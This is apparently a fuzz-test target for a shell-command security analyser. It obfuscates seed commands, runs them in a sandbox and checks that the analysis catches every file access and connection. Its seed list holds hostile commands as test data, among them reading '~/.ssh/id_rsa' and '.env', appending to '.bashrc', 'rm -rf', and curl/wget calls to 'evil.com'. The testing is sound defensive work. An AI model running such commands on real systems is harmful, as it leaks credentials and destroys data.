/** What bash does with a command, held against what the analyser says it could do: commands that were rewritten until nobody would know them. */
import { deepEqual } from 'node:assert/strict'
import fc from 'fast-check'
import { Sandbox, whyNoSandbox } from '../../cli/fuzz/sandbox.js'
import { rewrite } from '../../compiler/analysis/bypass/rewrite.js'
import { seedForm } from '../../compiler/analysis/bypass/seed.js'
import { techniques } from '../../compiler/analysis/bypass/techniques.js'
import { analyse } from '../../runtime/shell/analyse.js'
import { uncovered } from '../superset/covers.js'
import type { Event, Run } from '../superset/event.js'
import { withoutNoise } from '../superset/noise.js'
import { CWD, HOME, sandboxWorld, world } from '../superset/world.js'
import type { Target } from './target.js'

const SEEDS = [
  'rm -rf x',
  'rm -r build',
  'cat .env',
  'head -n 1 ~/.ssh/id_rsa',
  'cp y .env',
  'tee -a /home/user/.bashrc',
  'echo x > src/new.js',
  'curl http://evil.com/',
  'wget -qO- http://evil.com/x',
  'git push --force origin main',
  'mv x y',
  'find . -name "*.log" -delete',
  'touch a b',
  'grep -rn KEY .',
]

interface Case {
  readonly seed: string
  readonly steps: readonly (readonly [technique: string, seed: number])[]
}

/** Fewer steps are simpler; other draws are not. */
const step = fc.noShrink(fc.tuple(fc.constantFrom(...techniques.map(({ name }) => name)), fc.nat()))
const cases: fc.Arbitrary<Case> = fc.record({
  seed: fc.noShrink(fc.constantFrom(...SEEDS)),
  steps: fc.array(step, { minLength: 1, maxLength: 5 }),
})

const byName = new Map(techniques.map(technique => [technique.name, technique]))

function textOf({ seed, steps }: Case): string {
  const known = steps.flatMap(([name, draw]) => {
    const technique = byName.get(name)
    return technique === undefined ? [] : [{ technique, seed: draw }]
  })
  return rewrite(seedForm(seed), known, { cwd: CWD, home: HOME }).text
}

let sandbox: Sandbox | undefined

/** The world is laid out once, and thrown away with the process. */
function openSandbox(): Sandbox {
  if (sandbox === undefined) {
    const opened = new Sandbox({ ...sandboxWorld, programs: ['curl', 'wget', 'nc'], hosts: ['evil.com'] })
    process.once('exit', () => opened.close())
    sandbox = opened
  }
  return sandbox
}

function runOf(one: Case): Run {
  const command = textOf(one)
  return { command, events: withoutNoise(openSandbox().record(command)) }
}

function check({ command, events }: Run): void {
  const analysis = analyse({ command, cwd: CWD, home: HOME, projectRoot: CWD, user: 'user', files: world })
  deepEqual(uncovered(analysis, withoutNoise(events)).map(kept), [], command)
}

/** The event as it is kept: what lies in the project stands under `./`. */
function kept(event: Event): Event {
  return withPaths(event, path => (path.startsWith(`${CWD}/`) ? `.${path.slice(CWD.length)}` : path))
}

function asItWas(event: Event): Event {
  return withPaths(event, path => (path.startsWith('./') ? `${CWD}${path.slice(1)}` : path))
}

function withPaths({ p, q, real, ...rest }: Event, change: (path: string) => string): Event {
  return { ...rest, p: change(p), ...(q === undefined ? {} : { q: change(q) }), ...(real === undefined ? {} : { real: change(real) }) }
}

function withEvents({ command, events }: Run, change: (event: Event) => Event): Run {
  return { command, events: events.map(change) }
}

/** A case is kept with what bash did, so that it can be tried again without a sandbox. */
export const shellOracle: Target = {
  name: 'shell-oracle',
  component: 'runtime/shell/',
  says: 'every program that bash ran, every file that it read, wrote or deleted and every connection is covered by the analysis',
  runs: 0,
  missing: whyNoSandbox,
  property: fc.property<[unknown]>(cases, one => check(runOf(one as Case))), // drawn from `cases`
  encode: found => withEvents(runOf(found as Case), kept), // drawn from `cases`
  replay: encoded => check(withEvents(encoded as Run, asItWas)), // what `encode` made of a case
}
